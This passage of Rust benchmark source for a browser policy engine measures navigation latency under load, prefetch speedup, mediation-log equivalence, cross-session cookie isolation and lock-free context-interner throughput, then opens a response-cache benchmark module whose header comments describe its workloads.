    pub navigations: usize,
    /// Measurement repeats behind the best-of figures below.
    pub repeats: usize,
    /// Best-of-repeats p99 navigation latency with the fabric otherwise idle,
    /// nanoseconds.
    pub unloaded_p99_ns: u64,
    /// Max-minus-min spread of the unloaded p99 across the repeats — the
    /// bench's own observed run-to-run noise, exported so the trajectory
    /// comparator can derive a per-metric floor from it.
    pub unloaded_p99_spread_ns: u64,
    /// Best-of-repeats p99 navigation latency under the bulk storm,
    /// nanoseconds.
    pub loaded_p99_ns: u64,
    /// Max-minus-min spread of the loaded p99 across the repeats.
    pub loaded_p99_spread_ns: u64,
    /// Max-minus-min spread of the per-repeat loaded/unloaded ratios.
    pub ratio_spread: f64,
    /// Bulk tickets parked mid-drain to serve queued navigation work during
    /// the loaded runs — the witness that the priority lanes actually engaged.
    pub preemptions: u64,
}

impl NavStormReport {
    /// Loaded-over-unloaded p99 ratio: the price one navigation pays for the
    /// storm. The lane gate bounds this.
    #[must_use]
    pub fn p99_ratio(&self) -> f64 {
        if self.unloaded_p99_ns == 0 {
            0.0
        } else {
            self.loaded_p99_ns as f64 / self.unloaded_p99_ns as f64
        }
    }
}

fn p99_ns(samples: &mut [u64]) -> u64 {
    assert!(!samples.is_empty(), "p99 of an empty sample set");
    samples.sort_unstable();
    samples[(samples.len() - 1) * 99 / 100]
}

/// Measures p99 navigation latency twice over identically-built fabrics: once
/// unloaded, once while `bulk_sessions` sibling sessions loop image-heavy page
/// loads through the **same** worker pool. Every session shares one engine and
/// one jar — the shared-everything deployment — but owns its page host.
///
/// # Panics
///
/// Panics if any page load fails; the workload is deterministic.
#[must_use]
pub fn run_navigation_storm(bulk_sessions: usize, navigations: usize) -> NavStormReport {
    let measure = |storm_sessions: usize| -> (u64, u64) {
        let fabric = Arc::new(SharedNetwork::new());
        register_nav_world(&fabric, "nav.example");
        for t in 0..storm_sessions {
            register_loader_world(
                &fabric,
                &format!("bulk{t}.example"),
                &format!("sid{t}"),
                8,
                4,
                |k| Duration::from_micros(150 + k as u64 * 50),
            );
        }
        let engine: Arc<dyn escudo_core::PolicyEngine> = Arc::new(escudo_core::EscudoEngine::new());
        let jar = Arc::new(SharedCookieJar::new());
        let stop = AtomicBool::new(false);
        let mut latencies = Vec::with_capacity(navigations);
        thread::scope(|scope| {
            for t in 0..storm_sessions {
                let fabric = Arc::clone(&fabric);
                let engine = Arc::clone(&engine);
                let jar = Arc::clone(&jar);
                let stop = &stop;
                scope.spawn(move || {
                    let mut browser = Browser::with_network(engine, jar, fabric);
                    browser.set_subresource_workers(8);
                    while !stop.load(Ordering::Acquire) {
                        browser
                            .navigate(&format!("http://bulk{t}.example/index.php"))
                            .expect("bulk storm page load");
                    }
                });
            }
            let mut browser =
                Browser::with_network(Arc::clone(&engine), Arc::clone(&jar), Arc::clone(&fabric));
            browser.set_subresource_workers(8);
            for _ in 0..3 {
                browser.navigate(NAV_PAGE_URL).expect("nav warm-up load");
            }
            for _ in 0..navigations {
                let start = Instant::now();
                browser.navigate(NAV_PAGE_URL).expect("nav workload load");
                latencies.push(start.elapsed().as_nanos() as u64);
            }
            stop.store(true, Ordering::Release);
        });
        (p99_ns(&mut latencies), fabric.fetch_pool_preemptions())
    };

    let (unloaded_p99_ns, _) = measure(0);
    let (loaded_p99_ns, preemptions) = measure(bulk_sessions);
    NavStormReport {
        bulk_sessions,
        navigations,
        repeats: 1,
        unloaded_p99_ns,
        unloaded_p99_spread_ns: 0,
        loaded_p99_ns,
        loaded_p99_spread_ns: 0,
        ratio_spread: 0.0,
        preemptions,
    }
}

/// [`run_navigation_storm`] repeated `repeats` times: reports the best
/// (minimum) p99 of each phase plus the max-minus-min spread of each figure —
/// the bench's own observed run-to-run noise. The trajectory comparator turns
/// a recorded `{key}_spread` into a per-metric noise floor, which is what
/// keeps the single-core p99 lottery from flaking CI.
///
/// # Panics
///
/// Panics if `repeats == 0` or any page load fails.
#[must_use]
pub fn run_navigation_storm_best_of(
    bulk_sessions: usize,
    navigations: usize,
    repeats: usize,
) -> NavStormReport {
    assert!(repeats > 0, "best-of-zero navigation storms");
    let mut report = run_navigation_storm(bulk_sessions, navigations);
    report.repeats = repeats;
    let (mut min_ratio, mut max_ratio) = (report.p99_ratio(), report.p99_ratio());
    let (mut max_unloaded, mut max_loaded) = (report.unloaded_p99_ns, report.loaded_p99_ns);
    for _ in 1..repeats {
        let next = run_navigation_storm(bulk_sessions, navigations);
        min_ratio = min_ratio.min(next.p99_ratio());
        max_ratio = max_ratio.max(next.p99_ratio());
        max_unloaded = max_unloaded.max(next.unloaded_p99_ns);
        max_loaded = max_loaded.max(next.loaded_p99_ns);
        report.unloaded_p99_ns = report.unloaded_p99_ns.min(next.unloaded_p99_ns);
        report.loaded_p99_ns = report.loaded_p99_ns.min(next.loaded_p99_ns);
        report.preemptions = report.preemptions.max(next.preemptions);
    }
    report.unloaded_p99_spread_ns = max_unloaded - report.unloaded_p99_ns;
    report.loaded_p99_spread_ns = max_loaded - report.loaded_p99_ns;
    report.ratio_spread = max_ratio - min_ratio;
    report
}

// ---------------------------------------------------------------------------
// The prefetch workload world.

/// Registers the prefetch workload's site on `fabric`: a page host (with
/// `latency` simulated service time) serving a hub page whose markup carries a
/// `rel=prefetch` hint for `/item.php`, an item page, and two image origins.
/// The hub response sets a ring-1 `Domain` session cookie, so the item
/// navigation — and therefore the speculative prefetch — carries mediated
/// cookie state.
pub fn register_prefetch_world(
    fabric: &SharedNetwork,
    host: &str,
    cookie_name: &str,
    latency: Duration,
) {
    let hub = format!(
        "<html><head><link rel=\"prefetch\" href=\"http://{host}/item.php\"></head>\
         <body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">\
         <img src=\"http://img0.{host}/hub0.png\"><img src=\"http://img1.{host}/hub1.png\">\
         </body></html>"
    );
    let item = format!(
        "<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">\
         <img src=\"http://img0.{host}/item0.png\"><img src=\"http://img1.{host}/item1.png\">\
         </body></html>"
    );
    let domain = host.to_string();
    let cookie = cookie_name.to_string();
    fabric.register(&format!("http://{host}"), move |req: &Request| {
        if req.url.path() == "/item.php" {
            Response::ok_html(item.clone())
        } else {
            Response::ok_html(hub.clone())
                .with_cookie(SetCookie {
                    domain: Some(domain.clone()),
                    ..SetCookie::new(cookie.clone(), "bench")
                })
                .with_cookie_policy(
                    &CookiePolicy::new(cookie.clone(), Ring::new(1))
                        .with_acl(Acl::uniform(Ring::new(1))),
                )
        }
    });
    fabric.set_latency(&format!("http://{host}"), latency);
    for k in 0..2 {
        let origin = format!("http://img{k}.{host}");
        fabric.register(&origin, |req: &Request| {
            Response::ok_text(format!("img {}", req.url.path()))
        });
        fabric.set_latency(&origin, latency);
    }
}

/// The outcome of the repeat-navigation prefetch-speedup measurement.
#[derive(Debug, Clone, Copy, Default)]
pub struct PrefetchSpeedupReport {
    /// Hub → item passes per side.
    pub passes: usize,
    /// Mean item-navigation latency with prefetch disabled, nanoseconds.
    pub cold_ns: f64,
    /// Mean item-navigation latency with prefetch enabled, nanoseconds.
    pub warm_ns: f64,
    /// Prefetch-cache hits the enabled session consumed; must equal `passes`.
    pub hits: u64,
}

impl PrefetchSpeedupReport {
    /// Cold-over-warm speedup of the hinted repeat navigation.
    #[must_use]
    pub fn speedup(&self) -> f64 {
        if self.warm_ns <= 0.0 {
            0.0
        } else {
            self.cold_ns / self.warm_ns
        }
    }
}

/// Loads hub-then-item `passes` times on two identically-built fabrics with
/// `latency` per-origin service time — once with speculation disabled, once
/// enabled — and times the item navigation only. With the hub's `rel=prefetch`
/// hint honoured, the enabled side's item document comes out of the prefetch
/// cache and never pays the origin latency.
///
/// # Panics
///
/// Panics if a page load fails.
#[must_use]
pub fn run_prefetch_speedup(latency: Duration, passes: usize) -> PrefetchSpeedupReport {
    let run = |enabled: bool| -> (f64, u64) {
        let fabric = Arc::new(SharedNetwork::new());
        register_prefetch_world(&fabric, "shop.example", "sid", latency);
        let engine = engine_for_mode(PolicyMode::Escudo);
        let jar = Arc::new(SharedCookieJar::new());
        let mut browser = Browser::with_network(engine, jar, fabric);
        browser.set_prefetch_enabled(enabled);
        let mut total_ns = 0u128;
        for _ in 0..passes {
            browser
                .navigate("http://shop.example/hub.php")
                .expect("hub page load");
            let start = Instant::now();
            browser
                .navigate("http://shop.example/item.php")
                .expect("item page load");
            total_ns += start.elapsed().as_nanos();
        }
        (
            total_ns as f64 / passes.max(1) as f64,
            browser.prefetch_hits(),
        )
    };

    let (cold_ns, _) = run(false);
    let (warm_ns, hits) = run(true);
    PrefetchSpeedupReport {
        passes,
        cold_ns,
        warm_ns,
        hits,
    }
}

/// The outcome of the prefetch-on-vs-off mediation oracle run.
#[derive(Debug, Clone, Copy, Default)]
pub struct PrefetchOracleReport {
    /// Log entries compared.
    pub requests: usize,
    /// Sequence-sorted log entries that differed between the prefetching run
    /// and the plain run (byte-level comparison, cookie names and status
    /// included). Must be 0.
    pub log_mismatches: usize,
    /// Per-subresource attached-cookie-name lists that differed. Must be 0.
    pub attachment_mismatches: usize,
    /// Prefetch hits the enabled side consumed while staying byte-identical.
    pub prefetch_hits: u64,
}

/// Runs the same hub → item navigation sequence `passes` times on two
/// identically-built fabrics — prefetch enabled vs disabled — and compares the
/// sequence-sorted request logs byte-for-byte plus every page's
/// per-subresource attached cookie names. Speculation dispatches unlogged and
/// a consumed hit is logged under the navigation's own sequence number, so the
/// logs must not differ by a single byte.
///
/// # Panics
///
/// Panics if a page load fails.
#[must_use]
pub fn run_prefetch_oracle(passes: usize) -> PrefetchOracleReport {
    let run = |enabled: bool| {
        let fabric = Arc::new(SharedNetwork::new());
        register_prefetch_world(&fabric, "shop.example", "sid", Duration::from_micros(120));
        let engine = engine_for_mode(PolicyMode::Escudo);
        let jar = Arc::new(SharedCookieJar::new());
        let mut browser = Browser::with_network(engine, jar, Arc::clone(&fabric));
        browser.set_prefetch_enabled(enabled);
        let mut attachments: Vec<Vec<Vec<String>>> = Vec::new();
        for _ in 0..passes {
            for url in [
                "http://shop.example/hub.php",
                "http://shop.example/item.php",
            ] {
                let page = browser.navigate(url).expect("oracle page load");
                attachments.push(
                    browser
                        .page(page)
                        .subresources
                        .iter()
                        .map(|s| s.attached_cookies.clone())
                        .collect(),
                );
            }
        }
        (fabric.log(), attachments, browser.prefetch_hits())
    };

    let (on_log, on_attached, prefetch_hits) = run(true);
    let (off_log, off_attached, _) = run(false);

    let mut report = PrefetchOracleReport {
        requests: on_log.len().max(off_log.len()),
        prefetch_hits,
        ..PrefetchOracleReport::default()
    };
    report.log_mismatches = on_log.iter().zip(&off_log).filter(|(a, b)| a != b).count()
        + on_log.len().abs_diff(off_log.len());
    report.attachment_mismatches = on_attached
        .iter()
        .zip(&off_attached)
        .filter(|(a, b)| a != b)
        .count()
        + on_attached.len().abs_diff(off_attached.len());
    report
}

/// The outcome of the shared-fabric prefetching-session workload.
#[derive(Debug, Clone, Copy, Default)]
pub struct PrefetchIsolationReport {
    /// Concurrent prefetching sessions (= OS threads).
    pub sessions: usize,
    /// Requests the shared fabric logged across all sessions.
    pub requests: usize,
    /// Sessions whose requests carried their own session cookie.
    pub sessions_with_cookies: usize,
    /// Log entries for one session's hosts carrying a *different* session's
    /// cookie. Must be 0.
    pub isolation_violations: usize,
    /// Prefetch hits consumed across all sessions.
    pub prefetch_hits: u64,
    /// Prefetch entries discarded because the live mediation plan no longer
    /// matched the speculative one — the cache refusing to change a decision.
    pub stale_discards: u64,
}

/// Runs `threads` prefetching browser sessions concurrently over **one**
/// shared fabric, jar and engine. Session `t` owns `shop{t}.example` (cookie
/// `sid{t}`) and loads hub-then-item `rounds` times with speculation enabled;
/// the shared log is then scanned for cross-session cookie leakage.
///
/// # Panics
///
/// Panics if any session thread fails a page load.
#[must_use]
pub fn run_prefetch_sessions(threads: usize, rounds: usize) -> PrefetchIsolationReport {
    let fabric = Arc::new(SharedNetwork::new());
    let engine: Arc<dyn escudo_core::PolicyEngine> = Arc::new(escudo_core::EscudoEngine::new());
    let jar = Arc::new(SharedCookieJar::new());
    for t in 0..threads {
        register_prefetch_world(
            &fabric,
            &format!("shop{t}.example"),
            &format!("sid{t}"),
            Duration::from_micros(80),
        );
    }

    let prefetch_hits: u64 = thread::scope(|scope| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let fabric = Arc::clone(&fabric);
                let engine = Arc::clone(&engine);
                let jar = Arc::clone(&jar);
                scope.spawn(move || {
                    let mut browser = Browser::with_network(engine, jar, fabric);
                    browser.set_prefetch_enabled(true);
                    for _ in 0..rounds {
                        browser
                            .navigate(&format!("http://shop{t}.example/hub.php"))
                            .expect("shared-fabric hub load");
                        browser
                            .navigate(&format!("http://shop{t}.example/item.php"))
                            .expect("shared-fabric item load");
                    }
                    browser.prefetch_hits()
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|handle| handle.join().expect("prefetch session thread"))
            .sum()
    });

    let log = fabric.log();
    let mut report = PrefetchIsolationReport {
        sessions: threads,
        requests: log.len(),
        prefetch_hits,
        stale_discards: fabric.prefetch_stale_discards(),
        ..PrefetchIsolationReport::default()
    };
    for t in 0..threads {
        let own_cookie = format!("sid{t}");
        let suffix = format!("shop{t}.example");
        let mut own_cookie_seen = false;
        for entry in log.iter().filter(|e| {
            let host = e.url.host().to_ascii_lowercase();
            host == suffix || host.ends_with(&format!(".{suffix}"))
        }) {
            for name in &entry.cookie_names {
                if name == &own_cookie {
                    own_cookie_seen = true;
                } else {
                    report.isolation_violations += 1;
                }
            }
        }
        if own_cookie_seen {
            report.sessions_with_cookies += 1;
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_navigation_storm_measures_both_sides() {
        let report = run_navigation_storm(2, 10);
        assert_eq!(report.bulk_sessions, 2);
        assert_eq!(report.navigations, 10);
        assert!(report.unloaded_p99_ns > 0);
        assert!(report.loaded_p99_ns > 0);
        assert!(report.p99_ratio() > 0.0);
        assert_eq!(report.repeats, 1, "a single run records no repeats");
        assert_eq!(report.unloaded_p99_spread_ns, 0);
        assert_eq!(report.ratio_spread, 0.0);
    }

    #[test]
    fn best_of_repeats_keeps_the_minimum_and_records_the_spread() {
        let report = run_navigation_storm_best_of(1, 10, 2);
        assert_eq!(report.repeats, 2);
        assert!(report.unloaded_p99_ns > 0);
        assert!(report.loaded_p99_ns > 0);
        // The best-of p99 can never exceed best + spread (spread is max - min).
        assert!(report.ratio_spread >= 0.0);
        let worst_unloaded = report.unloaded_p99_ns + report.unloaded_p99_spread_ns;
        assert!(worst_unloaded >= report.unloaded_p99_ns);
    }

    #[test]
    fn prefetch_speedup_hits_on_every_pass() {
        let report = run_prefetch_speedup(Duration::from_micros(200), 3);
        assert_eq!(report.passes, 3);
        assert_eq!(report.hits, 3, "every hinted repeat navigation must hit");
        assert!(report.cold_ns > 0.0);
        assert!(report.warm_ns > 0.0);
        assert!(
            report.speedup() > 1.0,
            "prefetched navigation must beat the cold one ({:.0}ns vs {:.0}ns)",
            report.warm_ns,
            report.cold_ns
        );
    }

    #[test]
    fn the_prefetch_oracle_run_is_byte_identical() {
        let report = run_prefetch_oracle(2);
        // 2 passes × (hub + 2 imgs + item + 2 imgs) per side.
        assert_eq!(report.requests, 12);
        assert_eq!(report.prefetch_hits, 2);
        assert_eq!(report.log_mismatches, 0);
        assert_eq!(report.attachment_mismatches, 0);
    }

    #[test]
    fn prefetching_sessions_stay_isolated_on_one_fabric() {
        let report = run_prefetch_sessions(3, 2);
        assert_eq!(report.sessions, 3);
        assert_eq!(report.sessions_with_cookies, 3);
        assert_eq!(report.isolation_violations, 0);
        assert_eq!(report.prefetch_hits, 6, "each round consumes its hint");
    }

    #[test]
    fn p99_picks_the_tail_sample() {
        let mut samples: Vec<u64> = (1..=100).collect();
        assert_eq!(p99_ns(&mut samples), 99);
        let mut few = vec![30, 10, 20];
        assert_eq!(p99_ns(&mut few), 20);
    }
}
