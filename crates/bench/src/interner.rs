//! The first-touch-storm workload behind the `interner_concurrent` bench: the
//! lock-free [`ContextInterner`] raced against the `RwLock<ContextTable>` the
//! engine used to carry.
//!
//! A *first-touch storm* is the interner's worst case: many threads meeting many
//! genuinely new contexts at once (a multi-tenant deployment absorbing a burst
//! of fresh origins), so nearly every resolve is a miss and — under the old
//! design — a write-lock acquisition. The workload mixes
//!
//! * an **overlapping** context set every thread interns (so threads race their
//!   CAS claims / write locks on the *same* keys and must converge on one dense
//!   id each), with
//! * a **disjoint** set per thread (so the table genuinely grows under
//!   contention and density is meaningful).
//!
//! [`RwLockContextTable`] is the retained reference implementation: the exact
//! probe-under-read-lock / intern-under-write-lock protocol `EscudoEngine` used
//! before the lock-free interner, preserved here so the bench's ≥2× gate always
//! compares against the real predecessor rather than a strawman.

use std::sync::{Barrier, RwLock};
use std::thread;
use std::time::Instant;

use escudo_core::{
    Acl, ContextInterner, ContextTable, ObjectContext, ObjectKind, Origin, PrincipalContext,
    PrincipalKind, Ring,
};

/// One storm participant: anything that can resolve contexts to dense ids
/// through `&self`. Implemented by the lock-free interner and the retained
/// `RwLock` reference so the measurement loop is identical for both sides.
pub trait StormInterner: Sync {
    /// Human-readable side name for reports.
    fn label(&self) -> &'static str;
    /// Interns a principal context, returning its dense id.
    fn intern_principal(&self, principal: &PrincipalContext) -> u32;
    /// Interns an object context, returning its dense id.
    fn intern_object(&self, object: &ObjectContext) -> u32;
    /// Read-only principal probe.
    fn lookup_principal(&self, principal: &PrincipalContext) -> Option<u32>;
    /// Read-only object probe.
    fn lookup_object(&self, object: &ObjectContext) -> Option<u32>;
    /// `(principal_count, object_count)` interned so far.
    fn counts(&self) -> (usize, usize);
}

impl StormInterner for ContextInterner {
    fn label(&self) -> &'static str {
        "lock-free interner"
    }

    fn intern_principal(&self, principal: &PrincipalContext) -> u32 {
        ContextInterner::intern_principal(self, principal).index()
    }

    fn intern_object(&self, object: &ObjectContext) -> u32 {
        ContextInterner::intern_object(self, object).index()
    }

    fn lookup_principal(&self, principal: &PrincipalContext) -> Option<u32> {
        ContextInterner::lookup_principal(self, principal).map(|id| id.index())
    }

    fn lookup_object(&self, object: &ObjectContext) -> Option<u32> {
        ContextInterner::lookup_object(self, object).map(|id| id.index())
    }

    fn counts(&self) -> (usize, usize) {
        (self.principal_count(), self.object_count())
    }
}

/// The retained reference implementation: [`ContextTable`] behind a [`RwLock`],
/// driven with the probe-then-write protocol the pre-lock-free engine used
/// (read lock on the warm path, write lock on first touch; `intern_*` re-probes
/// under the write lock, so racing first touches stay correct).
#[derive(Debug, Default)]
pub struct RwLockContextTable {
    table: RwLock<ContextTable>,
}

impl RwLockContextTable {
    /// Creates an empty reference table.
    #[must_use]
    pub fn new() -> Self {
        RwLockContextTable::default()
    }
}

impl StormInterner for RwLockContextTable {
    fn label(&self) -> &'static str {
        "rwlock reference"
    }

    fn intern_principal(&self, principal: &PrincipalContext) -> u32 {
        if let Some(id) = self
            .table
            .read()
            .expect("reference table lock")
            .lookup_principal(principal)
        {
            return id.index();
        }
        self.table
            .write()
            .expect("reference table lock")
            .intern_principal(principal)
            .index()
    }

    fn intern_object(&self, object: &ObjectContext) -> u32 {
        if let Some(id) = self
            .table
            .read()
            .expect("reference table lock")
            .lookup_object(object)
        {
            return id.index();
        }
        self.table
            .write()
            .expect("reference table lock")
            .intern_object(object)
            .index()
    }

    fn lookup_principal(&self, principal: &PrincipalContext) -> Option<u32> {
        self.table
            .read()
            .expect("reference table lock")
            .lookup_principal(principal)
            .map(|id| id.index())
    }

    fn lookup_object(&self, object: &ObjectContext) -> Option<u32> {
        self.table
            .read()
            .expect("reference table lock")
            .lookup_object(object)
            .map(|id| id.index())
    }

    fn counts(&self) -> (usize, usize) {
        let table = self.table.read().expect("reference table lock");
        (table.principal_count(), table.object_count())
    }
}

/// One decision-relevant context pair of the storm.
pub type StormPair = (PrincipalContext, ObjectContext);

fn storm_pair(tag: &str, index: usize) -> StormPair {
    // Distinct origins (the expensive, realistic distinguisher: string hashing
    // and comparison) with varied rings and ACLs.
    let origin = Origin::new("http", &format!("{tag}{index}.storm.example"), 80);
    let ring = Ring::new((index % 4) as u16);
    let principal = PrincipalContext::new(PrincipalKind::Script, origin.clone(), ring);
    let object = ObjectContext::new(ObjectKind::DomElement, origin, ring)
        .with_acl(Acl::uniform(Ring::new((index % 3) as u16)));
    (principal, object)
}

/// The storm's context population: one `shared` set every thread interns
/// (overlap → CAS races / write-lock convoys on the same keys) and one disjoint
/// set per thread (growth under contention). All contexts are distinct from
/// each other across the whole population.
#[must_use]
pub fn storm_contexts(
    shared: usize,
    per_thread: usize,
    threads: usize,
) -> (Vec<StormPair>, Vec<Vec<StormPair>>) {
    let shared_pairs = (0..shared).map(|i| storm_pair("shared", i)).collect();
    let disjoint = (0..threads)
        .map(|t| {
            (0..per_thread)
                .map(|i| storm_pair(&format!("t{t}d"), i))
                .collect()
        })
        .collect();
    (shared_pairs, disjoint)
}

/// One timed first-touch-storm sample.
#[derive(Debug, Clone, Copy, Default)]
pub struct StormSample {
    /// Threads in the storm.
    pub threads: usize,
    /// Context interns completed inside the timed windows (principals and
    /// objects each count one).
    pub interns: u64,
    /// Summed wall-clock nanoseconds of the timed windows (earliest per-thread
    /// start to latest per-thread finish, per pass).
    pub elapsed_ns: u128,
}

impl StormSample {
    /// Aggregate interns per second across all storm threads.
    #[must_use]
    pub fn interns_per_sec(&self) -> f64 {
        if self.elapsed_ns == 0 {
            0.0
        } else {
            self.interns as f64 * 1.0e9 / self.elapsed_ns as f64
        }
    }

    /// Mean nanoseconds per intern (aggregate wall time / interns).
    #[must_use]
    pub fn ns_per_intern(&self) -> f64 {
        if self.interns == 0 {
            0.0
        } else {
            self.elapsed_ns as f64 / self.interns as f64
        }
    }
}

/// Runs `passes` first-touch storms of `threads` threads against fresh
/// interners built by `factory`, and returns the aggregate throughput over the
/// timed windows. Every pass starts from an **empty** table — that is what
/// makes it a first-touch storm rather than a warm-lookup measurement — and
/// every pass verifies density (interned counts equal the distinct population)
/// and convergence (every shared pair resolves to one id below the count).
///
/// # Panics
///
/// Panics if a pass breaks density or convergence — a correctness regression,
/// not noise.
pub fn measure_storm<I: StormInterner>(
    factory: impl Fn() -> I,
    shared: &[StormPair],
    disjoint: &[Vec<StormPair>],
    passes: usize,
) -> StormSample {
    let threads = disjoint.len();
    let disjoint_total: usize = disjoint.iter().map(Vec::len).sum();
    // Distinct context pairs across the whole population (ids must be dense
    // over exactly this many keys per kind).
    let expected = shared.len() + disjoint_total;
    // Intern *operations* per pass: every thread resolves the shared set plus
    // its own disjoint set, one principal + one object intern per pair.
    let ops_per_pass = ((threads * shared.len() + disjoint_total) * 2) as u64;
    let mut sample = StormSample {
        threads,
        ..StormSample::default()
    };
    for _ in 0..passes {
        let interner = factory();
        let barrier = Barrier::new(threads);
        let window = thread::scope(|scope| {
            let handles: Vec<_> = (0..threads)
                .map(|t| {
                    let interner = &interner;
                    let barrier = &barrier;
                    let own = &disjoint[t];
                    scope.spawn(move || {
                        barrier.wait();
                        let start = Instant::now();
                        // Offset walks: threads hit the same shared keys at
                        // different moments, maximizing distinct interleavings
                        // while the sets fully overlap.
                        let offset = t * 37 % shared.len().max(1);
                        for i in 0..shared.len() {
                            let (principal, object) = &shared[(offset + i) % shared.len()];
                            std::hint::black_box(interner.intern_principal(principal));
                            std::hint::black_box(interner.intern_object(object));
                        }
                        for (principal, object) in own {
                            std::hint::black_box(interner.intern_principal(principal));
                            std::hint::black_box(interner.intern_object(object));
                        }
                        (start, Instant::now())
                    })
                })
                .collect();
            let mut first_start: Option<Instant> = None;
            let mut last_finish: Option<Instant> = None;
            for handle in handles {
                let (start, finish) = handle.join().expect("storm thread panicked");
                if first_start.is_none_or(|earliest| start < earliest) {
                    first_start = Some(start);
                }
                if last_finish.is_none_or(|latest| finish > latest) {
                    last_finish = Some(finish);
                }
            }
            last_finish
                .expect("at least one storm thread")
                .duration_since(first_start.expect("at least one storm thread"))
        });
        sample.elapsed_ns += window.as_nanos();
        sample.interns += ops_per_pass;

        // Density: exactly the distinct population was interned, no id burned.
        let (principals, objects) = interner.counts();
        assert_eq!(
            principals,
            expected,
            "{}: principal ids not dense",
            interner.label()
        );
        assert_eq!(
            objects,
            expected,
            "{}: object ids not dense",
            interner.label()
        );
        // Convergence: lookup after the storm hits for every shared pair, with
        // an id inside the dense range.
        for (principal, object) in shared {
            let pid = interner
                .lookup_principal(principal)
                .expect("interned principal must be found");
            let oid = interner
                .lookup_object(object)
                .expect("interned object must be found");
            assert!((pid as usize) < expected && (oid as usize) < expected);
        }
    }
    sample
}

/// Best-of-`samples` storm measurement (scheduler noise only ever slows a storm
/// down, so the best sample is the least-noisy estimate).
pub fn best_storm<I: StormInterner>(
    factory: impl Fn() -> I,
    shared: &[StormPair],
    disjoint: &[Vec<StormPair>],
    passes: usize,
    samples: usize,
) -> StormSample {
    (0..samples.max(1))
        .map(|_| measure_storm(&factory, shared, disjoint, passes))
        .max_by(|a, b| a.interns_per_sec().total_cmp(&b.interns_per_sec()))
        .expect("at least one storm sample")
}

/// Measures the single-threaded **warm lookup** path: every context is interned
/// once up front, then `passes` timed walks resolve the whole population
/// through `lookup_*`. Returns mean nanoseconds per lookup, best of `samples`.
/// This is the regression guard the lock-free swap must not pay for: removing
/// the write-lock stall may not slow the steady-state read.
pub fn measure_warm_lookup<I: StormInterner>(
    factory: impl Fn() -> I,
    contexts: &[StormPair],
    passes: usize,
    samples: usize,
) -> f64 {
    let interner = factory();
    for (principal, object) in contexts {
        interner.intern_principal(principal);
        interner.intern_object(object);
    }
    (0..samples.max(1))
        .map(|_| {
            let start = Instant::now();
            for _ in 0..passes {
                for (principal, object) in contexts {
                    std::hint::black_box(interner.lookup_principal(principal));
                    std::hint::black_box(interner.lookup_object(object));
                }
            }
            start.elapsed().as_nanos() as f64 / (passes * contexts.len() * 2) as f64
        })
        .fold(f64::INFINITY, f64::min)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn storm_population_is_fully_distinct() {
        let (shared, disjoint) = storm_contexts(8, 4, 3);
        assert_eq!(shared.len(), 8);
        assert_eq!(disjoint.len(), 3);
        let interner = ContextInterner::new();
        for (p, o) in shared.iter().chain(disjoint.iter().flatten()) {
            interner.intern_principal(p);
            interner.intern_object(o);
        }
        assert_eq!(interner.principal_count(), 8 + 3 * 4);
        assert_eq!(interner.object_count(), 8 + 3 * 4);
    }

    #[test]
    fn both_sides_survive_a_small_storm() {
        let (shared, disjoint) = storm_contexts(16, 8, 4);
        let lockfree = measure_storm(|| ContextInterner::with_buckets(64), &shared, &disjoint, 2);
        let reference = measure_storm(RwLockContextTable::new, &shared, &disjoint, 2);
        // (16 shared + 4×8 disjoint) × 2 kinds × 4 threads... interns counts the
        // *operations*: every thread interns shared + its own set, twice (p+o).
        assert_eq!(lockfree.interns, reference.interns);
        assert_eq!(lockfree.threads, 4);
        assert!(lockfree.interns_per_sec() > 0.0);
        assert!(reference.ns_per_intern() > 0.0);
    }

    #[test]
    fn warm_lookups_resolve_the_whole_population() {
        let (shared, _) = storm_contexts(32, 0, 1);
        let ns = measure_warm_lookup(ContextInterner::new, &shared, 3, 2);
        assert!(ns > 0.0);
        let ns_ref = measure_warm_lookup(RwLockContextTable::new, &shared, 3, 2);
        assert!(ns_ref > 0.0);
    }
}
