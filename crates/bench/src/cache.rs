//! The mediation-keyed response-cache workload: repeat-navigation speedup,
//! the cache-on-vs-off scenario-matrix oracle, cookie-header key isolation,
//! exactly-countable TTL expiry, and batch-level single-flight coalescing.
//!
//! This module backs the `cache_concurrent` bench and its CI gates:
//!
//! * [`run_cache_speedup`] — one session loads the same max-age'd page
//!   repeatedly on two identically-built fabrics, cache off vs on; every
//!   warm fetch (document and subresources alike) is an `Arc` refcount bump
//!   that skips the origin's simulated latency entirely.
//! * [`run_cache_matrix_oracle`] — the full scenario registry replayed twice,
//!   response cache on vs off. The cache key is the mediation plan (method,
//!   URL, exact attached `Cookie` header) and mediation always executes —
//!   only transport is skipped — so every cell's verdict **and** its
//!   reference-monitor check/denial counts must be identical.
//! * [`run_cache_isolation`] — N sessions with distinct session cookies share
//!   one fabric and one cacheable URL; each page body echoes the `Cookie`
//!   header the origin actually received. A lookup only serves an entry whose
//!   stored plan matches the requester's, so no session may ever observe
//!   another's echo — zero shared hits across cookie headers.
//! * [`run_cache_ttl_walk`] — a `max-age=5` entry walked past its lifetime on
//!   a hand-advanced [`ManualClock`]: hits, expiries and stores are exactly
//!   countable because no wall time enters the freshness check.
//! * [`run_cache_single_flight`] — a page whose plan repeats one subresource
//!   URL: duplicate plan slots coalesce onto a single dispatch even when the
//!   response is uncacheable, and every slot still logs under its own
//!   sequence number.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use escudo_apps::scenario::{install_chaos_hook, registry, MatrixReport};
use escudo_browser::Browser;
use escudo_core::config::CookiePolicy;
use escudo_core::{engine_for_mode, Acl, ManualClock, PolicyMode, Ring};
use escudo_net::{Request, Response, SetCookie, SharedCookieJar, SharedNetwork};

/// Origin latency the speedup gate runs at: high enough that a cache hit's
/// saving dwarfs scheduling noise.
pub const CACHE_GATE_LATENCY: Duration = Duration::from_micros(200);

/// Subresources the cache world's page pulls (one stylesheet, two images).
pub const CACHE_WORLD_SUBRESOURCES: u64 = 3;

/// `max-age` of the cache world's document and assets, seconds — far beyond
/// any wall-clock run, so nothing expires mid-measurement.
pub const CACHE_WORLD_MAX_AGE_SECS: u64 = 3600;

/// Registers the cacheable site on `fabric`: `/login.php` sets a ring-1
/// session cookie (and is deliberately **not** cacheable — no `max-age`),
/// `/index.php` and its three asset origins all declare
